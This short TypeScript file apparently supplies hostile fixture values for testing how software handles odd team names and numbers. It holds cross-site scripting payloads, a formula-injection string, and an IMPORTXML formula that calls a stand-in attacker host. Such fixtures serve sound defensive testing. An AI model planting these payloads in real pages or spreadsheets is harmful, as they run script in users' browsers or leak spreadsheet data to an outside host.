/** Names of teams that break careless software, by place in the list (0-based). */
const oddTeams: ReadonlyMap<number, string> = new Map([
  [2, 'Billing <img src=x onerror=alert(4)>'],
  [3, '=1+1 Bookings'],
]);

/** The same of numbers. */
const oddNumbers: ReadonlyMap<number, string> = new Map([
  [2, '=IMPORTXML("https://evil.example/n","//a")'],
  [3, 'Bookings <script>alert(6)</script>'],
]);

interface Plan {
  /** @default true */
  readonly isHostile?: boolean;
}

/** The odd name of the team at this place, if it has one. */
export const nameOfOddTeam = (plan: Plan, index: number): string | undefined =>
  plan.isHostile === false ? undefined : oddTeams.get(index);

/** The odd name of the number at this place, if it has one. */
export const nameOfOddNumber = (plan: Plan, index: number): string | undefined =>
  plan.isHostile === false ? undefined : oddNumbers.get(index);
